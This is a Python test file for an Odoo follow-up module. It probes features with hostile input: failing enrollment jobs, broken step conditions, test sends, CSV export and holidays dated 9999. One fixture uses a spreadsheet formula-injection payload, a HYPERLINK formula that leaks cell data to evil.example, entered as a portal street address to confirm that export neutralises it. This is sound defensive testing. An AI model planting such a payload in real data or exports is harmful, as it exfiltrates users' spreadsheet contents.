"""Issue 27, hostile input, third round: the doors of the last round's features, probed
as a salesperson, a manager, a customer on the portal and bad data would.

- A mass enrollment job runs with the rights of its creator, who may only queue
  documents they can read; a failing job fails alone.
- A step's condition runs at save with its author's rights (no oracle on fields they
  cannot read); one that raises when its step falls due fails that step alone.
- A test send without a chosen contact renders on a contact the user can read.
- The register's export never writes a cell a spreadsheet would run as a formula, even
  for the street a customer typed on the portal.
- A public holiday ending in 9999 is refused at save, and one already stored holds back
  its own company only, at a bounded cost.
"""

import base64
import csv
import io
import re
import time
from datetime import datetime
from unittest.mock import patch

from odoo.exceptions import UserError, ValidationError
from odoo.tests import HttpCase, get_db_name, tagged
from odoo.tools import mute_logger

from odoo.addons.mail.tests.common import mail_new_test_user

from .common import CSRF_RE, FollowupSecurityCase
from .mail_gateway_common import FollowupGatewayCase
from .test_register import RegisterCase
from .test_step_preview import StepPreviewMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@tagged("post_install", "-at_install")
class TestHostileEnrollJob(FollowupSecurityCase, HttpCase):
    """Mass enrollment jobs created directly over XML-RPC, and the cron that runs them."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Job = cls.env["followup.enroll.job"]
        # Sam's own partner, a target on a colleague's order.
        cls.sam_partner = cls.user_salesman.partner_id
        cls.sam_partner.write({"email": "sam@example.com"})
        cls.carla = cls._create_customer("Carla Conti", "carla")
        cls.sequence_other = cls._create_sequence(
            "Other", "manual", [cls._task_step()], purpose="service"
        )

    def _create_job(self, user, vals):
        return self.xmlrpc_object.execute_kw(
            get_db_name(), user.id, user.login, "followup.enroll.job", "create", [vals], {}
        )

    # ------------------------------------------------------------------ failures

    def test_a_failing_job_is_marked_failed_its_user_told_and_the_next_one_runs(self):
        first = self.Job.with_user(self.user_salesman)._followup_queue(
            self.sequence_manual, [[self.mario.id, "res.partner", self.mario.id]]
        )
        second = self.Job._followup_queue(
            self.sequence_other, [[self.carla.id, "res.partner", self.carla.id]]
        )
        Sequence = self.registry["followup.sequence"]
        original = Sequence._followup_enroll
        sequence_manual = self.sequence_manual

        def enroll(sequence, targets):
            if sequence == sequence_manual:
                raise UserError("The moon is in the wrong phase.")  # pylint: disable=translation-required
            return original(sequence, targets)

        with (
            patch.object(Sequence, "_followup_enroll", enroll),
            mute_logger("odoo.addons.followup_manager.models.followup_enroll_job"),
        ):
            self.Job._cron_enroll()
        self.assertRecordValues(
            first, [{"state": "failed", "error": "The moon is in the wrong phase."}]
        )
        self.assertEqual((second.state, second.enrolled_count), ("done", 1))
        self.assertFalse(self._enrollments(self.sequence_manual))
        self.assertIn("The moon is in the wrong phase.", self.sequence_manual.message_ids[0].body)
        # The user is told on the bus (the savepoints flush what is already queued).
        sent = [v["message"] for v in self.env.cr.precommit.data.get("bus.bus.values", [])]
        sent += self.env["bus.bus"].search([]).mapped("message")
        self.assertTrue(any('"danger"' in m and "wrong phase" in m for m in sent), sent)
        # A failed job waits no more.
        self.assertEqual(self.sequence_manual.enroll_job_pending, 0)


@tagged("post_install", "-at_install")
class TestHostileCondition(FollowupSecurityCase):
    """A step's condition: saved with its author's rights, and failing alone."""

    def test_a_condition_that_raises_fails_its_step_and_the_rest_goes_on(self):
        broken = self._sequence(
            "Month end", [self._task_step("Month end check")], purpose="service"
        )
        healthy = self._sequence("Healthy", [self._task_step("Prepare")], purpose="service")
        # Saved in October, when the 31st exists; due on 30 November, when it does not.
        with self._at(datetime(2026, 10, 15, 9, 0)):
            broken.step_ids.condition_domain = (
                "[('create_date', '<', context_today().replace(day=31).isoformat())]"
            )
        carla = self._create_customer("Carla Conti", "carla")
        broken_enrollment = self._enroll(broken, self.mario)
        healthy_enrollment = self._enroll(healthy, carla)
        with mute_logger("odoo.addons.followup_manager.models.followup_dispatcher_condition"):
            self._dispatch()
        failed = broken_enrollment.dispatch_ids
        self.assertRecordValues(failed, [{"state": "failed", "reason": "error"}])
        self.assertIn("its condition could not be checked", failed.note)
        self.assertIn("day is out of range for month", failed.note)
        self.assertEqual(broken_enrollment.state, "done", "the step is behind it")
        self.assertRecordValues(healthy_enrollment.dispatch_ids, [{"state": "done"}])


@tagged("post_install", "-at_install")
class TestHostileTestSend(FollowupGatewayCase, FollowupSecurityCase, StepPreviewMixin):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._preview_fixtures()

    def test_a_test_send_without_a_contact_renders_on_one_the_user_can_read(self):
        self._enroll(self.sequence, self.mario)
        olga = self._create_customer(
            "Olga Elsewhere", "olga", comment="<p>Internal: owes us 40,000 EUR</p>"
        )
        self._enroll(self.sequence, olga)
        # The latest follow-up's person moved to a company the salesperson cannot see.
        olga.company_id = self.company_b
        self.assertFalse(olga.with_user(self.user_salesman).has_access("read"))
        with self._sent_messages() as sent:
            self.step_email.with_user(self.user_salesman).action_send_test()
        self.assertEqual(len(sent), 1)
        self.assertEqual(sent[0]["Subject"], "[Test] Help us help you, Mario Rossi")
        # With nobody readable left, on the user's own contact (issue 28, as Odoo's
        # mass mailing renders a test), never on the person they cannot read.
        self._enrollments(self.sequence, self.mario).sudo().unlink()
        with self._sent_messages() as sent:
            self.step_email.with_user(self.user_salesman).action_send_test()
        self.assertEqual(sent[0]["Subject"], "[Test] Help us help you, Sam Salesman")


@tagged("post_install", "-at_install")
class TestHostileRegisterExport(RegisterCase, HttpCase):
    def test_a_street_typed_on_the_portal_is_never_run_by_a_spreadsheet(self):
        portal_user = mail_new_test_user(
            self.env, login="fm_portal_it", name="Piero Portale", groups="base.group_portal"
        )
        partner = portal_user.partner_id
        partner.write({"country_id": self.italy.id, "customer_rank": 1})
        street = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
        self.authenticate(portal_user.login, portal_user.login)
        page = self.url_open("/my/account")
        csrf = CSRF_RE.search(page.text).group(1)
        self.url_open(
            "/my/account",
            data={
                "csrf_token": csrf,
                "name": "Piero Portale",
                "email": "piero@example.com",
                "phone": "+39 06 4991 0009",
                "street": street,
                "city": "Roma",
                "zipcode": "00184",
                "country_id": str(self.italy.id),
            },
        )
        partner.invalidate_recordset()
        self.assertEqual(partner.street, street, "the portal saved it as typed")
        with self._at(self.MONDAY_10_ROME):
            action = partner.with_user(self.user_manager).action_followup_rpo_export()
        wizard = self.env["followup.rpo.export"].browse(action["res_id"])
        rows = list(
            csv.reader(
                io.StringIO(base64.b64decode(wizard.file).decode(), newline=""), delimiter=";"
            )
        )
        values = [value for _kind, value in rows[1:]]
        self.assertIn("'" + street.upper() + ", 00184 ROMA", values)
        for value in values:
            # A number in E.164 (+ and digits) is a number for a spreadsheet.
            with self.subTest(value=value):
                self.assertTrue(
                    re.fullmatch(r"\+[0-9]+", value) or not value.startswith(FORMULA_STARTS)
                )


@tagged("post_install", "-at_install")
class TestHostileHolidays(FollowupSecurityCase):
    """A public holiday ending in 9999, in company A's calendar; company B follows up too."""

    # Monday 30 November 2026, 13:30 in Rome: inside company B's window (13-14).
    MONDAY_1330_ROME = datetime(2026, 11, 30, 12, 30)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.calendar_a = cls.company.resource_calendar_id
        cls.sequence_a = cls._create_sequence(
            "Company A calls", "manual", [cls._call_step("Call A")], purpose="service"
        )
        cls.holiday = cls.env["resource.calendar.leaves"].create(
            {
                "name": "Closed for the works",
                "calendar_id": cls.calendar_a.id,
                "date_from": datetime(2026, 11, 29),
                "date_to": datetime(2026, 12, 3),
            }
        )

    def _round(self, name):
        """Enroll one new customer of each company; dispatch them together; return the
        two enrollments and the time the dispatch took."""
        customer_a = self._create_customer(f"{name} A", f"{name}-a")
        customer_b = self._create_customer(
            f"{name} B", f"{name}-b", company_id=self.company_b.id, user_id=False
        )
        enrollment_a = self._enroll(self.sequence_a, customer_a, self.MONDAY_1330_ROME)
        enrollment_b = self._enroll(self.sequence_b, customer_b, self.MONDAY_1330_ROME)
        started = time.perf_counter()
        self._dispatch(self.MONDAY_1330_ROME)
        elapsed = time.perf_counter() - started
        return enrollment_a, enrollment_b, elapsed

    def _time_check(self, partner):
        partner.followup_set_consent("phone", "granted", "manual")
        self.env.invalidate_all()
        # Timed outside the frozen clock (freezegun freezes perf_counter too).
        started = time.perf_counter()
        with self._at(self.MONDAY_1330_ROME):
            [answer] = partner.followup_check("phone")
        return answer, time.perf_counter() - started

    def test_a_holiday_of_more_than_a_year_is_refused_at_save(self):
        with self.assertRaisesRegex(ValidationError, "more than 366"), self.env.cr.savepoint():
            self.holiday.date_to = datetime(9999, 12, 31, 23, 59, 59)
        with self.assertRaisesRegex(ValidationError, "more than 366"), self.env.cr.savepoint():
            self.env["resource.calendar.leaves"].create(
                {
                    "name": "Typo",
                    "calendar_id": self.calendar_a.id,
                    "date_from": datetime(2026, 12, 24),
                    "date_to": datetime(9999, 12, 31),
                }
            )
        # A long closure under a year is a closure.
        self.holiday.date_to = datetime(2027, 6, 30)

    def test_a_holiday_ending_in_9999_holds_back_its_company_only_and_quickly(self):
        a_before, b_before, baseline = self._round("before")
        check_before, check_baseline = self._time_check(a_before.partner_id)
        # Stored before the check at save existed (or by a script): the bad data is there.
        self.env.cr.execute(
            "UPDATE resource_calendar_leaves SET date_to = '9999-12-31 23:59:59' WHERE id = %s",
            [self.holiday.id],
        )
        self.env.invalidate_all()
        a_after, b_after, elapsed = self._round("after")
        check_after, check_elapsed = self._time_check(a_after.partner_id)

        for enrollment_b in (b_before, b_after):
            self.assertRecordValues(enrollment_b.dispatch_ids, [{"state": "done"}])
        for enrollment_a in (a_before, a_after):
            self.assertRecordValues(
                enrollment_a.dispatch_ids, [{"state": "deferred", "reason": "holiday"}]
            )
        self.assertEqual(check_before["reason"], "holiday")
        self.assertEqual(check_after["reason"], "holiday")
        self.assertGreater(check_after["next_allowed"], "2028-11-30")
        # The cost of the bad holiday is bounded: in the same range as a short one
        # (a wide margin: the machine is shared).
        self.assertLess(elapsed, 10 * baseline)
        self.assertLess(check_elapsed, 10 * check_baseline)
